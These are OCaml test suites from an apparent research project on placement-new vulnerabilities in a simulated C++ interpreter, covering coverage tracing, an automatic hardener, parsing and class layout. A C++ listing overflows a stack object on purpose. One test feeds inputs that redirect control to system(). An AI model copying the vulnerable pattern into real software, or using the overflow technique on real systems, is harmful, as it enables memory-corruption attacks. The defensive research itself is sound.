void GradStudent::GradStudent(GradStudent *this) {
}

void addStudent() {
  Student stud;
  if (isGradStudent) {
    GradStudent *gs = new (&stud) GradStudent();
    int i = -1;
    int dssn = 0;
    while (++i < 3) {
      cin >> dssn;
      if (dssn > 0) {
        gs->ssn[i] = dssn;
      }
    }
  }
}

void main() {
  isGradStudent = 1;
  addStudent();
  return 0;
}
