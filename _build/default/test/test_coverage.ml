(* Tests for the statement tracer / coverage collector. *)

open Pna_minicpp.Dsl
module Coverage = Pna.Coverage
module Interp = Pna_minicpp.Interp
module Config = Pna_defense.Config

let prog_loops n =
  program
    ~globals:[ global "acc" int ]
    [
      func "tick" [ set (v "acc") (v "acc" +: i 1) ];
      func "idle" [ ret0 ];
      func "main"
        [
          for_
            (decli "j" int (i 0))
            (v "j" <: i n)
            (set (v "j") (v "j" +: i 1))
            [ expr (call "tick" []) ];
          ret (i 0);
        ];
    ]

let run_with_coverage prog =
  let cov, hook = Coverage.collector () in
  let o = Interp.execute ~config:Config.none ~on_stmt:hook prog in
  (cov, o)

let test_counts_scale_with_loop () =
  let cov10, _ = run_with_coverage (prog_loops 10) in
  let cov100, _ = run_with_coverage (prog_loops 100) in
  Alcotest.(check bool) "more iterations, more statements" true
    (cov100.Coverage.total > cov10.Coverage.total * 5);
  Alcotest.(check int) "tick ran 10 times" 10
    (Option.value (Hashtbl.find_opt cov10.Coverage.per_func "tick") ~default:0)

let test_uncovered_function_reported () =
  let cov, _ = run_with_coverage (prog_loops 3) in
  let rows = Coverage.report cov (prog_loops 3) in
  let idle = List.find (fun r -> r.Coverage.cf_name = "idle") rows in
  Alcotest.(check bool) "idle never entered" false idle.Coverage.cf_entered;
  let main = List.find (fun r -> r.Coverage.cf_name = "main") rows in
  Alcotest.(check bool) "main entered" true main.Coverage.cf_entered

let test_static_counts () =
  let rows = Coverage.report (Coverage.create ()) (prog_loops 3) in
  let main = List.find (fun r -> r.Coverage.cf_name = "main") rows in
  (* for + its init decl + step assign + body expr + return = 5 *)
  Alcotest.(check int) "static statements in main" 5 main.Coverage.cf_static

let test_kind_histogram () =
  let cov, _ = run_with_coverage (prog_loops 4) in
  Alcotest.(check (option int)) "4 calls = 4 expr stmts" (Some 4)
    (Hashtbl.find_opt cov.Coverage.per_kind "expr")

let test_no_hook_no_cost () =
  (* same outcome whether or not the tracer is attached *)
  let _, o1 = run_with_coverage (prog_loops 7) in
  let o2 = Interp.execute ~config:Config.none (prog_loops 7) in
  Alcotest.(check int) "same steps" o2.Pna_minicpp.Outcome.steps
    o1.Pna_minicpp.Outcome.steps

let suite =
  let t name f = Alcotest.test_case name `Quick f in
  ( "coverage",
    [
      t "dynamic counts scale with iterations" test_counts_scale_with_loop;
      t "uncovered functions reported" test_uncovered_function_reported;
      t "static statement counts" test_static_counts;
      t "per-kind histogram" test_kind_histogram;
      t "tracer does not change behaviour" test_no_hook_no_cost;
    ] )
