(* Tests for the automatic §5.1 repair tool. The headline properties:

   - hardened programs neutralize every placement-rooted attack (all but
     the two copy-loop attacks, which the runtime bounds-check defense
     also misses);
   - soundness hand-off: any attack that still wins against the hardened
     program is still flagged by the static checker (no silent gaps);
   - benign behaviour is preserved. *)

open Pna_minicpp.Dsl
module H = Pna_analysis.Hardener
module PC = Pna_analysis.Placement_checker
module C = Pna_attacks.Catalog
module D = Pna_attacks.Driver
module All = Pna_attacks.All
module Config = Pna_defense.Config
module O = Pna_minicpp.Outcome
module Interp = Pna_minicpp.Interp

(* the attacks whose root cause is outside the placement discipline *)
let out_of_scope = [ "L06-copyloop"; "L10-internal" ]

let run_hardened (a : C.t) =
  D.run ~config:Config.none { a with C.program = H.harden a.C.program; C.hardened = None }

let neutralization_cases =
  List.map
    (fun (a : C.t) ->
      Alcotest.test_case
        (Fmt.str "hardened %s: %s" a.C.id
           (if List.mem a.C.id out_of_scope then "survives (documented)"
            else "neutralized"))
        `Quick
        (fun () ->
          let r = run_hardened a in
          if List.mem a.C.id out_of_scope then
            Alcotest.(check bool) "copy-loop attack survives" true
              r.D.verdict.C.success
          else
            Alcotest.(check bool) "attack neutralized" false
              r.D.verdict.C.success))
    All.attacks

let soundness_cases =
  List.map
    (fun (a : C.t) ->
      Alcotest.test_case (Fmt.str "no silent gap on hardened %s" a.C.id) `Quick
        (fun () ->
          let h = H.harden a.C.program in
          let r = D.run ~config:Config.none { a with C.program = h; C.hardened = None } in
          if r.D.verdict.C.success then
            Alcotest.(check bool)
              "surviving attack still flagged by the checker" true
              (PC.actionable h <> [])))
    All.attacks

let test_repair_counts () =
  Alcotest.(check int) "L11 has two placement sites" 2
    (H.count_repairs Pna_attacks.L11_data_bss.attack.C.program);
  Alcotest.(check int) "L23 has placement + placed delete" 2
    (H.count_repairs Pna_attacks.L23_memleak.attack.C.program)

let test_benign_behaviour_preserved () =
  (* the benign pool server does equal-size placements: every guard passes
     and the workload's result is unchanged *)
  let h = H.harden Pna.Workloads.pool_server in
  let o = Interp.execute ~config:Config.none ~input_ints:[ 50 ] h in
  match o.O.status with
  | O.Exited 50 -> ()
  | st -> Alcotest.failf "hardened workload diverged: %a" O.pp_status st

let test_fallback_on_too_small_arena () =
  (* a failing guard takes the §5.1 fallback: heap allocation, no
     corruption *)
  let prog =
    program ~classes:Pna_attacks.Schema.base_classes
      ~globals:[ global "s" (cls "Student"); global "sentinel" int ]
      (Pna_attacks.Schema.base_funcs
      @ [
          func "main"
            [
              decli "gs" (ptr (cls "GradStudent"))
                (pnew (addr (v "s")) (cls "GradStudent") []);
              expr (mcall (v "gs") "setSSN" [ i 111; i 222; i 333 ]);
              ret (i 0);
            ];
        ])
  in
  let h = H.harden prog in
  let m = Interp.load ~config:Config.none h in
  let o = Interp.run m h ~entry:"main" in
  (match o.O.status with
  | O.Exited 0 -> ()
  | st -> Alcotest.failf "hardened run failed: %a" O.pp_status st);
  Alcotest.(check int) "sentinel untouched" 0
    (Pna_vmem.Vmem.read_i32
       (Pna_machine.Machine.mem m)
       (Pna_machine.Machine.global_addr_exn m "sentinel"));
  (* ... and the SSN landed in the heap fallback object instead *)
  Alcotest.(check bool) "fallback allocated on the heap" true
    ((Pna_machine.Machine.heap_stats m).Pna_machine.Heap.in_use >= 32)

let test_placed_delete_rewritten () =
  let h = H.harden (Pna_attacks.L23_memleak.mk_program ~checked:false) in
  let m = Interp.load ~config:Config.none h in
  Pna_machine.Machine.set_input ~ints:[ 100 ] m;
  let _ = Interp.run m h ~entry:"main" in
  Alcotest.(check int) "no leak after repair" 0
    (Pna_machine.Machine.leaked_bytes m)

let test_checker_accepts_hardened_guards () =
  (* the checker understands the emitted guard and reports nothing on a
     straightforward repaired overflow *)
  let h = H.harden Pna_attacks.L13_stack_ret.attack.C.program in
  Alcotest.(check (list string)) "clean" []
    (List.map
       (fun f -> f.Pna_analysis.Finding.message)
       (PC.actionable h))

let test_hardened_output_roundtrips () =
  (* the repaired program is still valid concrete syntax *)
  let h = H.harden Pna_attacks.L19_array_stack.attack.C.program in
  let src = Pna_minicpp.Cpp_print.program_to_string h in
  let reparsed = Pna_minicpp.Parser.program src in
  Alcotest.(check string) "print/parse fixpoint" src
    (Pna_minicpp.Cpp_print.program_to_string reparsed)

let test_arena_size_intrinsic () =
  let prog =
    program
      ~globals:[ global "pool" (char_arr 64); global "r" int ]
      [
        func "main"
          [ set (v "r") (call "__arena_size" [ v "pool" +: i 10 ]); ret (i 0) ];
      ]
  in
  let m = Interp.load ~config:Config.none prog in
  let _ = Interp.run m prog ~entry:"main" in
  Alcotest.(check int) "remaining bytes from offset" 54
    (Pna_vmem.Vmem.read_i32
       (Pna_machine.Machine.mem m)
       (Pna_machine.Machine.global_addr_exn m "r"))

let suite =
  let t name f = Alcotest.test_case name `Quick f in
  ( "hardener",
    neutralization_cases @ soundness_cases
    @ [
        t "repair counts" test_repair_counts;
        t "benign behaviour preserved" test_benign_behaviour_preserved;
        t "failing guard takes the heap fallback" test_fallback_on_too_small_arena;
        t "placed delete rewritten, leak gone" test_placed_delete_rewritten;
        t "checker accepts the emitted guards" test_checker_accepts_hardened_guards;
        t "hardened output is valid syntax" test_hardened_output_roundtrips;
        t "__arena_size intrinsic" test_arena_size_intrinsic;
      ] )
