(* Tests for the C++ concrete syntax: lexer, parser, pretty-printer.
   The headline properties: every catalogue program survives
   print -> parse -> print byte-identically, and the parsed program
   behaves identically under the interpreter. *)

module Ast = Pna_minicpp.Ast
module CP = Pna_minicpp.Cpp_print
module P = Pna_minicpp.Parser
module L = Pna_minicpp.Lexer
module Interp = Pna_minicpp.Interp
module Machine = Pna_machine.Machine
module Config = Pna_defense.Config
module O = Pna_minicpp.Outcome
module C = Pna_attacks.Catalog

(* ---- lexer ---- *)

let toks src = List.map fst (L.tokenize src)

let test_lex_basic () =
  Alcotest.(check int) "token count" 6 (List.length (toks "int x = 42;"));
  match toks "x->f(0x10)" with
  | [ L.IDENT "x"; L.PUNCT "->"; L.IDENT "f"; L.PUNCT "("; L.INT 16; L.PUNCT ")"; L.EOF ] ->
    ()
  | ts ->
    Alcotest.failf "bad tokens: %a" Fmt.(list ~sep:sp L.pp_token) ts

let test_lex_comments () =
  match toks "a // line\n /* block\n comment */ b" with
  | [ L.IDENT "a"; L.IDENT "b"; L.EOF ] -> ()
  | ts -> Alcotest.failf "comments not skipped: %a" Fmt.(list ~sep:sp L.pp_token) ts

let test_lex_floats_and_strings () =
  match toks "3.9 \"a\\x41b\\n\"" with
  | [ L.FLOAT f; L.STRING s; L.EOF ] ->
    Alcotest.(check (float 0.0)) "float" 3.9 f;
    Alcotest.(check string) "escapes" "aAb\n" s
  | ts -> Alcotest.failf "bad: %a" Fmt.(list ~sep:sp L.pp_token) ts

let test_lex_longest_match () =
  match toks "a<<b <= c << d" with
  | [ L.IDENT "a"; L.PUNCT "<<"; L.IDENT "b"; L.PUNCT "<="; L.IDENT "c";
      L.PUNCT "<<"; L.IDENT "d"; L.EOF ] ->
    ()
  | ts -> Alcotest.failf "bad: %a" Fmt.(list ~sep:sp L.pp_token) ts

(* ---- expression parsing ---- *)

let e = P.expression

let test_parse_precedence () =
  Alcotest.(check bool) "mul binds tighter" true
    (e "1 + 2 * 3" = Ast.(Bin (Add, Int 1, Bin (Mul, Int 2, Int 3))));
  Alcotest.(check bool) "parens override" true
    (e "(1 + 2) * 3" = Ast.(Bin (Mul, Bin (Add, Int 1, Int 2), Int 3)));
  Alcotest.(check bool) "left assoc" true
    (e "1 - 2 - 3" = Ast.(Bin (Sub, Bin (Sub, Int 1, Int 2), Int 3)))

let test_parse_postfix () =
  Alcotest.(check bool) "arrow index" true
    (e "gs->ssn[2]" = Ast.(Index (Arrow (Var "gs", "ssn"), Int 2)));
  Alcotest.(check bool) "method call" true
    (e "st->setSSN(1, 2, 3)"
    = Ast.(Mcall (Var "st", "setSSN", [ Int 1; Int 2; Int 3 ])))

let test_parse_placement_new () =
  Alcotest.(check bool) "placement object" true
    (e ~classes:[ "GradStudent" ] "new (&stud) GradStudent()"
    = Ast.(Pnew (Addr (Var "stud"), Pna_layout.Ctype.Class "GradStudent", [])));
  Alcotest.(check bool) "placement array" true
    (e "new (pool) char[n * 8]"
    = Ast.(
        Pnew_arr
          (Var "pool", Pna_layout.Ctype.Char, Bin (Mul, Var "n", Int 8))));
  Alcotest.(check bool) "heap new" true
    (e ~classes:[ "Student" ] "new Student(3.5, 2010, 1)"
    = Ast.(
        New (Pna_layout.Ctype.Class "Student", [ Flt 3.5; Int 2010; Int 1 ])))

let test_parse_cast_vs_parens () =
  Alcotest.(check bool) "cast" true
    (e "(int)x" = Ast.(Cast (Pna_layout.Ctype.Int, Var "x")));
  Alcotest.(check bool) "parens" true (e "(x)" = Ast.Var "x");
  Alcotest.(check bool) "ptr cast" true
    (e "*(int*)(buf + 4)"
    = Ast.(
        Deref
          (Cast
             ( Pna_layout.Ctype.Ptr Pna_layout.Ctype.Int,
               Bin (Add, Var "buf", Int 4) ))))

let test_parse_sizeof () =
  Alcotest.(check bool) "sizeof class" true
    (e ~classes:[ "GradStudent" ] "sizeof(GradStudent)"
    = Ast.Sizeof (Pna_layout.Ctype.Class "GradStudent"))

let test_parse_error_reports_line () =
  match P.program "int x;\nint broken(= 3;\n" with
  | _ -> Alcotest.fail "expected parse error"
  | exception P.Error { line; _ } -> Alcotest.(check int) "line" 2 line

(* ---- whole programs ---- *)

let listing_13_source =
  {|
class Student {
public:
  double gpa;
  int year;
  int semester;
};

class GradStudent : public Student {
public:
  int ssn[3];
};

int isGradStudent;

void Student::Student(Student *this) {
  this->gpa = 0.0; this->year = 0; this->semester = 0;
}
void GradStudent::GradStudent(GradStudent *this) { }

void addStudent() {
  Student stud;
  if (isGradStudent) {
    GradStudent *gs = new (&stud) GradStudent();
    int i = -1;
    int dssn = 0;
    while (++i < 3) {
      cin >> dssn;
      if (dssn > 0) { gs->ssn[i] = dssn; }
    }
  }
}

void main() {
  isGradStudent = 1;
  addStudent();
  return 0;
}
|}

let test_parse_listing13_and_exploit () =
  (* parse the paper's listing from source text and run the §5.2 attack *)
  let prog = P.program listing_13_source in
  let m = Interp.load ~config:Config.stackguard prog in
  let sys = Machine.function_addr m "system" in
  Machine.set_input ~ints:[ -1; -1; sys ] m;
  let o = Interp.run m prog ~entry:"main" in
  match o.O.status with
  | O.Arc_injection { symbol = "system"; _ } -> ()
  | st -> Alcotest.failf "expected hijack, got %a" O.pp_status st

let test_parsed_class_layout () =
  let prog = P.program listing_13_source in
  let env = Interp.build_env prog in
  Alcotest.(check int) "GradStudent is 32 bytes" 32
    (Pna_layout.Layout.sizeof env (Pna_layout.Ctype.Class "GradStudent"))

(* print -> parse -> print is the identity on the whole catalogue *)
let roundtrip_cases =
  List.map
    (fun (a : C.t) ->
      Alcotest.test_case (Fmt.str "roundtrip %s" a.C.id) `Quick (fun () ->
          let src1 = CP.program_to_string a.C.program in
          let src2 = CP.program_to_string (P.program src1) in
          Alcotest.(check string) "fixpoint" src1 src2))
    Pna_attacks.All.attacks

(* ... and the reparsed program behaves identically *)
let behaviour_cases =
  List.map
    (fun (a : C.t) ->
      Alcotest.test_case (Fmt.str "reparse behaves like %s" a.C.id) `Quick
        (fun () ->
          let reparsed = P.program (CP.program_to_string a.C.program) in
          let run prog =
            let m = Interp.load ~config:Config.none prog in
            let ints, strings = a.C.mk_input m in
            Machine.set_input ~ints ~strings m;
            Interp.run m prog ~entry:a.C.entry
          in
          let o1 = run a.C.program and o2 = run reparsed in
          Alcotest.(check string) "same status"
            (Fmt.str "%a" O.pp_status o1.O.status)
            (Fmt.str "%a" O.pp_status o2.O.status);
          Alcotest.(check (list string)) "same output" o1.O.output o2.O.output))
    Pna_attacks.All.attacks

let test_static_analysis_on_parsed () =
  (* the checker flags the parsed-from-source listing too *)
  let prog = P.program listing_13_source in
  Alcotest.(check bool) "flagged" true
    (Pna_analysis.Placement_checker.actionable prog <> [])

(* ---- grammar fuzzing: random programs survive print->parse->print ---- *)

let gen_ident = QCheck.Gen.(map (Fmt.str "v%d") (int_range 0 20))

let gen_expr =
  let open QCheck.Gen in
  sized_size (int_range 0 4) @@ fix (fun self n ->
      if n = 0 then
        oneof
          [
            map (fun v -> Ast.Int v) (int_range (-99) 999);
            map (fun x -> Ast.Var x) gen_ident;
          ]
      else
        frequency
          [
            (1, map (fun v -> Ast.Int v) (int_range (-99) 999));
            (1, map (fun x -> Ast.Var x) gen_ident);
            ( 3,
              map3
                (fun op a b -> Ast.Bin (op, a, b))
                (oneofl Ast.[ Add; Sub; Mul; Lt; Le; Gt; Ge; Eq; Ne; And; Or ])
                (self (n / 2))
                (self (n / 2)) );
            (1, map (fun e -> Ast.Un (Ast.Neg, e)) (self (n - 1)));
            (1, map (fun e -> Ast.Un (Ast.Not, e)) (self (n - 1)));
            (1, map (fun _ -> Ast.Addr (Ast.Var "v0")) (self 0));
            (1, map2 (fun a ix -> Ast.Index (Ast.Var a, ix)) gen_ident (self (n / 2)));
            (1, map (fun f -> Ast.Arrow (Ast.Var "p0", f)) gen_ident);
          ])

let gen_stmt =
  let open QCheck.Gen in
  sized_size (int_range 0 3) @@ fix (fun self n ->
      let leaf =
        oneof
          [
            map2 (fun x e -> Ast.Decl (x, Pna_layout.Ctype.Int, Some e)) gen_ident gen_expr;
            map (fun x -> Ast.Decl (x, Pna_layout.Ctype.Ptr Pna_layout.Ctype.Char, None)) gen_ident;
            map2 (fun x e -> Ast.Assign (Ast.Var x, e)) gen_ident gen_expr;
            map (fun x -> Ast.Assign (Ast.Var x, Ast.Cin)) gen_ident;
            map (fun e -> Ast.Expr e) gen_expr;
            map (fun e -> Ast.Return (Some e)) gen_expr;
            map (fun items -> Ast.Cout items) (list_size (int_range 1 3) gen_expr);
          ]
      in
      if n = 0 then leaf
      else
        frequency
          [
            (4, leaf);
            ( 1,
              map3
                (fun c t f -> Ast.If (c, t, f))
                gen_expr
                (list_size (int_range 0 3) (self (n - 1)))
                (list_size (int_range 0 2) (self (n - 1))) );
            ( 1,
              map2 (fun c b -> Ast.While (c, b)) gen_expr
                (list_size (int_range 0 3) (self (n - 1))) );
          ])

let gen_program =
  let open QCheck.Gen in
  let gen_global =
    map2
      (fun x ty -> Ast.global x ty)
      gen_ident
      (oneofl
         Pna_layout.Ctype.
           [ Int; Double; Ptr Char; Array (Char, 16); Array (Int, 4) ])
  in
  map2
    (fun globals body ->
      (* deduplicate global names to keep the program well-formed *)
      let seen = Hashtbl.create 8 in
      let globals =
        List.filter
          (fun g ->
            if Hashtbl.mem seen g.Ast.g_name then false
            else begin
              Hashtbl.replace seen g.Ast.g_name ();
              true
            end)
          globals
      in
      Ast.program ~globals [ Ast.func "main" body ])
    (list_size (int_range 0 4) gen_global)
    (list_size (int_range 1 8) gen_stmt)

let arb_program =
  QCheck.make ~print:(fun p -> CP.program_to_string p) gen_program

let prop_random_program_roundtrip =
  QCheck.Test.make ~count:300 ~name:"syntax: random programs round-trip"
    arb_program (fun p ->
      let src1 = CP.program_to_string p in
      let src2 = CP.program_to_string (P.program src1) in
      src1 = src2)

let prop_random_expr_roundtrip =
  QCheck.Test.make ~count:500 ~name:"syntax: random expressions round-trip"
    (QCheck.make ~print:(fun e -> Fmt.str "%a" (CP.pp_expr ~prec:99) e) gen_expr)
    (fun e ->
      let src1 = Fmt.str "%a" (CP.pp_expr ~prec:99) e in
      let src2 = Fmt.str "%a" (CP.pp_expr ~prec:99) (P.expression src1) in
      src1 = src2)

let suite =
  let t name f = Alcotest.test_case name `Quick f in
  ( "syntax",
    [
      t "lexer: basics" test_lex_basic;
      t "lexer: comments" test_lex_comments;
      t "lexer: floats and string escapes" test_lex_floats_and_strings;
      t "lexer: longest-match operators" test_lex_longest_match;
      t "parser: precedence" test_parse_precedence;
      t "parser: postfix chains" test_parse_postfix;
      t "parser: placement new forms" test_parse_placement_new;
      t "parser: cast vs parens" test_parse_cast_vs_parens;
      t "parser: sizeof" test_parse_sizeof;
      t "parser: errors carry line numbers" test_parse_error_reports_line;
      t "Listing 13 from source text, exploited" test_parse_listing13_and_exploit;
      t "parsed classes get correct layout" test_parsed_class_layout;
      t "checker runs on parsed source" test_static_analysis_on_parsed;
      QCheck_alcotest.to_alcotest prop_random_expr_roundtrip;
      QCheck_alcotest.to_alcotest prop_random_program_roundtrip;
    ]
    @ roundtrip_cases @ behaviour_cases )
