(* Tests for the C++ object-layout engine: sizes, alignment, padding,
   inheritance, vtables. The concrete numbers here are the ones the
   paper's attacks rely on. *)

open Pna_layout

let env_with classes =
  let env = Layout.create_env () in
  List.iter (Layout.define env) classes;
  env

let schema_env () =
  env_with
    (Pna_attacks.Schema.base_classes @ Pna_attacks.Schema.virtual_classes)

let layout env c = Layout.of_class env c

let test_scalar_sizes () =
  let open Ctype in
  List.iter
    (fun (ty, sz) -> Alcotest.(check int) (to_string ty) sz (scalar_size ty))
    [
      (Char, 1); (Uchar, 1); (Bool, 1); (Short, 2); (Ushort, 2); (Int, 4);
      (Uint, 4); (Float, 4); (Double, 8); (Ptr Char, 4); (Fun_ptr, 4);
    ]

let test_sizeof_aggregates () =
  let env = schema_env () in
  Alcotest.(check int) "int[3]" 12 (Layout.sizeof env (Ctype.Array (Ctype.Int, 3)));
  Alcotest.(check int) "char[7]" 7 (Layout.sizeof env (Ctype.Array (Ctype.Char, 7)));
  Alcotest.(check int) "Student" 16 (Layout.sizeof env (Ctype.Class "Student"))

let test_student_layout () =
  let env = schema_env () in
  let l = layout env "Student" in
  Alcotest.(check int) "size" 16 l.Layout.l_size;
  Alcotest.(check int) "align" 8 l.Layout.l_align;
  Alcotest.(check (list int)) "no vptr" [] l.Layout.l_vptrs;
  Alcotest.(check int) "gpa@0" 0 (Layout.field_exn l "gpa").Layout.f_offset;
  Alcotest.(check int) "year@8" 8 (Layout.field_exn l "year").Layout.f_offset;
  Alcotest.(check int) "semester@12" 12
    (Layout.field_exn l "semester").Layout.f_offset

let test_grad_student_layout () =
  let env = schema_env () in
  let l = layout env "GradStudent" in
  Alcotest.(check int) "size" 32 l.Layout.l_size;
  Alcotest.(check int) "ssn@16" 16 (Layout.field_exn l "ssn").Layout.f_offset;
  (* the 16 bytes past a Student: exactly the attack surface *)
  Alcotest.(check int) "overflow window" 16
    (l.Layout.l_size - (layout env "Student").Layout.l_size);
  Alcotest.(check (list (pair string int))) "base at 0" [ ("Student", 0) ]
    l.Layout.l_bases

let test_tail_padding () =
  let env = schema_env () in
  let l = layout env "GradStudent" in
  (* fields end at 16+12=28; size rounds to 32: 4 bytes of tail padding —
     the §3.7.2 "alignment issues" bytes *)
  Alcotest.(check int) "tail padding" 4 (Layout.tail_padding env l);
  Alcotest.(check int) "fields end" 28 (Layout.fields_end env l)

let test_polymorphic_layout () =
  let env = schema_env () in
  let l = layout env "StudentV" in
  Alcotest.(check (list int)) "vptr at 0" [ 0 ] l.Layout.l_vptrs;
  Alcotest.(check int) "size includes vptr + pad" 24 l.Layout.l_size;
  Alcotest.(check int) "gpa pushed to 8" 8
    (Layout.field_exn l "gpa").Layout.f_offset

let test_polymorphic_derived () =
  let env = schema_env () in
  let l = layout env "GradStudentV" in
  Alcotest.(check int) "size" 40 l.Layout.l_size;
  Alcotest.(check (list int)) "inherits primary vptr" [ 0 ] l.Layout.l_vptrs;
  Alcotest.(check int) "ssn@24" 24 (Layout.field_exn l "ssn").Layout.f_offset

let test_vtable_override () =
  let env = schema_env () in
  let base = layout env "StudentV" in
  let derived = layout env "GradStudentV" in
  Alcotest.(check (list (pair string string)))
    "base table" [ ("getInfo", "StudentV::getInfo") ] base.Layout.l_vtable;
  Alcotest.(check (list (pair string string)))
    "override same slot"
    [ ("getInfo", "GradStudentV::getInfo") ]
    derived.Layout.l_vtable

let test_vtable_extension () =
  let env =
    env_with
      [
        Class_def.v "A" ~methods:[ Class_def.virtual_method "fa" ] [ ("x", Ctype.Int) ];
        Class_def.v "B" ~bases:[ "A" ]
          ~methods:[ Class_def.virtual_method "fb" ]
          [ ("y", Ctype.Int) ];
      ]
  in
  let b = layout env "B" in
  Alcotest.(check (list (pair string string)))
    "base slots first, new slots appended"
    [ ("fa", "fa"); ("fb", "fb") ]
    b.Layout.l_vtable

let test_multiple_inheritance () =
  let env =
    env_with
      [
        Class_def.v "A" [ ("a", Ctype.Int) ];
        Class_def.v "B" [ ("b", Ctype.Double) ];
        Class_def.v "C" ~bases:[ "A"; "B" ] [ ("c", Ctype.Char) ];
      ]
  in
  let c = layout env "C" in
  Alcotest.(check (list (pair string int)))
    "subobject offsets" [ ("A", 0); ("B", 8) ] c.Layout.l_bases;
  Alcotest.(check int) "a@0" 0 (Layout.field_exn c "a").Layout.f_offset;
  Alcotest.(check int) "b@8" 8 (Layout.field_exn c "b").Layout.f_offset;
  Alcotest.(check int) "c after bases" 16 (Layout.field_exn c "c").Layout.f_offset;
  Alcotest.(check int) "size rounds to max align" 24 c.Layout.l_size

let test_multiple_inheritance_polymorphic () =
  let env =
    env_with
      [
        Class_def.v "P1" ~methods:[ Class_def.virtual_method "f" ] [];
        Class_def.v "P2" ~methods:[ Class_def.virtual_method "g" ] [];
        Class_def.v "D" ~bases:[ "P1"; "P2" ] [ ("d", Ctype.Int) ];
      ]
  in
  let d = layout env "D" in
  Alcotest.(check (list int)) "two vptrs" [ 0; 4 ] d.Layout.l_vptrs;
  Alcotest.(check bool) "both virtuals in merged table" true
    (List.mem_assoc "f" d.Layout.l_vtable && List.mem_assoc "g" d.Layout.l_vtable)

let test_field_shadowing () =
  let env =
    env_with
      [
        Class_def.v "Base" [ ("x", Ctype.Double) ];
        Class_def.v "Derived" ~bases:[ "Base" ] [ ("x", Ctype.Int) ];
      ]
  in
  let d = layout env "Derived" in
  let f = Layout.field_exn d "x" in
  Alcotest.(check int) "derived x shadows base x" 8 f.Layout.f_offset;
  Alcotest.(check bool) "type is the derived one" true
    (f.Layout.f_type = Ctype.Int)

let test_empty_class () =
  let env = env_with [ Class_def.v "Empty" [] ] in
  Alcotest.(check int) "empty class occupies one byte" 1
    (layout env "Empty").Layout.l_size

let test_nested_class_field () =
  let env =
    env_with
      (Pna_attacks.Schema.base_classes
      @ [
          Class_def.v "Pair"
            [ ("s1", Ctype.Class "Student"); ("s2", Ctype.Class "Student"); ("n", Ctype.Int) ];
        ])
  in
  let p = layout env "Pair" in
  Alcotest.(check int) "s2 offset" 16 (Layout.field_exn p "s2").Layout.f_offset;
  Alcotest.(check int) "n offset" 32 (Layout.field_exn p "n").Layout.f_offset;
  Alcotest.(check int) "size" 40 p.Layout.l_size

let test_alignment_gaps () =
  let env =
    env_with [ Class_def.v "Gappy" [ ("c", Ctype.Char); ("d", Ctype.Double); ("x", Ctype.Char) ] ]
  in
  let g = layout env "Gappy" in
  Alcotest.(check int) "c@0" 0 (Layout.field_exn g "c").Layout.f_offset;
  Alcotest.(check int) "d aligned to 8" 8 (Layout.field_exn g "d").Layout.f_offset;
  Alcotest.(check int) "x after d" 16 (Layout.field_exn g "x").Layout.f_offset;
  Alcotest.(check int) "size rounds up" 24 g.Layout.l_size

let test_unknown_class_rejected () =
  let env = env_with [] in
  Alcotest.check_raises "unknown" (Invalid_argument "Layout: unknown class Nope")
    (fun () -> ignore (Layout.of_class env "Nope"))

let test_duplicate_class_rejected () =
  let env = env_with [ Class_def.v "A" [] ] in
  Alcotest.check_raises "dup" (Invalid_argument "Layout.define: duplicate class A")
    (fun () -> Layout.define env (Class_def.v "A" []))

(* property tests over randomly generated class definitions *)

let gen_fields =
  let open QCheck.Gen in
  let scalar =
    oneofl Ctype.[ Char; Short; Int; Uint; Double; Ptr Char; Fun_ptr ]
  in
  let field i =
    map (fun ty -> (Fmt.str "f%d" i, ty)) scalar
  in
  int_range 1 8 >>= fun n -> flatten_l (List.init n field)

let arb_class =
  QCheck.make ~print:(fun fs -> Fmt.str "%d fields" (List.length fs)) gen_fields

let layout_of_fields fields =
  let env = env_with [ Class_def.v "T" fields ] in
  (env, Layout.of_class env "T")

let prop_size_multiple_of_align =
  QCheck.Test.make ~count:300 ~name:"layout: size is a multiple of align"
    arb_class (fun fields ->
      let _, l = layout_of_fields fields in
      l.Layout.l_size mod l.Layout.l_align = 0)

let prop_fields_naturally_aligned =
  QCheck.Test.make ~count:300 ~name:"layout: every field naturally aligned"
    arb_class (fun fields ->
      let env, l = layout_of_fields fields in
      List.for_all
        (fun f -> f.Layout.f_offset mod Layout.alignof env f.Layout.f_type = 0)
        l.Layout.l_fields)

let prop_fields_disjoint =
  QCheck.Test.make ~count:300 ~name:"layout: fields do not overlap" arb_class
    (fun fields ->
      let env, l = layout_of_fields fields in
      let rec disjoint = function
        | a :: (b :: _ as rest) ->
          a.Layout.f_offset + Layout.sizeof env a.Layout.f_type
          <= b.Layout.f_offset
          && disjoint rest
        | _ -> true
      in
      disjoint l.Layout.l_fields)

let prop_fields_inside_object =
  QCheck.Test.make ~count:300 ~name:"layout: fields fit inside sizeof" arb_class
    (fun fields ->
      let env, l = layout_of_fields fields in
      List.for_all
        (fun f ->
          f.Layout.f_offset + Layout.sizeof env f.Layout.f_type <= l.Layout.l_size)
        l.Layout.l_fields)

let prop_derived_no_smaller =
  QCheck.Test.make ~count:300
    ~name:"layout: derived class at least as large as its base" arb_class
    (fun fields ->
      let env =
        env_with
          [ Class_def.v "Base" [ ("b", Ctype.Int) ];
            Class_def.v "T" ~bases:[ "Base" ] fields ]
      in
      (Layout.of_class env "T").Layout.l_size
      >= (Layout.of_class env "Base").Layout.l_size)

let suite =
  let t name f = Alcotest.test_case name `Quick f in
  ( "layout",
    [
      t "scalar sizes (ILP32)" test_scalar_sizes;
      t "sizeof aggregates" test_sizeof_aggregates;
      t "Student layout" test_student_layout;
      t "GradStudent layout" test_grad_student_layout;
      t "tail padding" test_tail_padding;
      t "polymorphic class gains vptr at 0" test_polymorphic_layout;
      t "polymorphic derived shares primary vptr" test_polymorphic_derived;
      t "vtable override keeps slot" test_vtable_override;
      t "vtable extension appends" test_vtable_extension;
      t "multiple inheritance offsets" test_multiple_inheritance;
      t "multiple inheritance: two vptrs" test_multiple_inheritance_polymorphic;
      t "field shadowing" test_field_shadowing;
      t "empty class" test_empty_class;
      t "class-typed fields" test_nested_class_field;
      t "alignment gaps" test_alignment_gaps;
      t "unknown class rejected" test_unknown_class_rejected;
      t "duplicate class rejected" test_duplicate_class_rejected;
      QCheck_alcotest.to_alcotest prop_size_multiple_of_align;
      QCheck_alcotest.to_alcotest prop_fields_naturally_aligned;
      QCheck_alcotest.to_alcotest prop_fields_disjoint;
      QCheck_alcotest.to_alcotest prop_fields_inside_object;
      QCheck_alcotest.to_alcotest prop_derived_no_smaller;
    ] )
